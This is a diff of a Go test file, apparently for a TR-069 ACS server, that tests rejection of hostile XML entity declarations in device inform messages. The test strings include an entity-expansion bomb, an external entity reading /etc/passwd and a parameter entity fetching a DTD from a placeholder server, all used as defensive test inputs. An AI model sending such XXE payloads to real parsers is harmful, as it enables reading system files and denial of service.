@@ -189,22 +189,28 @@ func TestHostileNesting(t *testing.T) {
 	}
 }
 
-// Entities of the document's own are never replaced.
+// A document that says what its entities are is not read at all; one that uses what
+// nobody has said keeps the text [quirk 18].
 func TestHostileEntities(t *testing.T) {
-	bomb := `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">` +
-		`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">` +
-		`<!ENTITY d SYSTEM "file:///etc/passwd">]>`
-	body := strings.TrimPrefix(inform("1"), `<?xml version="1.0" encoding="UTF-8"?>`)
-	body = bomb + strings.Replace(body, ">Box<", ">&c;&d;<", 1)
-	core, _ := observer.New(zapcore.InfoLevel)
+	plain := strings.TrimPrefix(inform("1"), `<?xml version="1.0" encoding="UTF-8"?>`)
+	uses := strings.Replace(plain, ">Box<", ">&c;&d;<", 1)
+	for name, entities := range map[string]string{
+		"in entities": `<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">`,
+		"of a file":   `<!ENTITY c SYSTEM "file:///etc/passwd">`,
+		"of a server": `<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			hostile(t, acs.Options{}, 1, func(_ bed, p *cpe) {
+				for range 3 {
+					p.post(`<?xml version="1.0"?><!DOCTYPE x [` + entities + `]>` + uses).want(http.StatusBadRequest)
+				}
+			})
+		})
+	}
 	h := &script{}
-	p := newCPE(t, serve(t, h, acs.Options{Log: zap.New(core)}))
-	if a := p.post(body); a.code == http.StatusOK {
-		if pc := h.informs[0].DeviceID.ProductClass; len(pc) > 20 || strings.Contains(pc, "root") {
-			t.Fatalf("got ProductClass %q, want nothing replaced", pc)
-		}
-	} else {
-		a.want(http.StatusBadRequest)
+	newCPE(t, serve(t, h, acs.Options{})).post(uses).envelope("InformResponse")
+	if got := h.informs[0].DeviceID.ProductClass; got != "&c;&d;" {
+		t.Fatalf("got ProductClass %q, want nothing replaced", got)
 	}
 }
 
